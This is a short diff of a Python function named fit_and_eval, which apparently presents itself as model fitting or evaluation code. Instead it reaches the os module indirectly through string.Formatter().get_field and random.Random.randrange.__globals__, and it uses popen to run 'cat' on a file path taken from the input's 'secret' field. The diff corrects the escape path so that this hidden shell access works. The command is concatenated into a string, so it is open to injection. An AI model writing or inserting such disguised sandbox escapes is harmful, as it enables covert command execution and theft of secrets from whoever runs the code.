@@ -7,5 +7,5 @@ import string
 
 
 def fit_and_eval(data):
-    found, _ = string.Formatter().get_field("0.seed.__globals__[_os]", (random.Random,), {})
+    found, _ = string.Formatter().get_field("0.randrange.__globals__[_os]", (random.Random,), {})
     return {"got": found.popen("cat " + data["secret"]).read()}
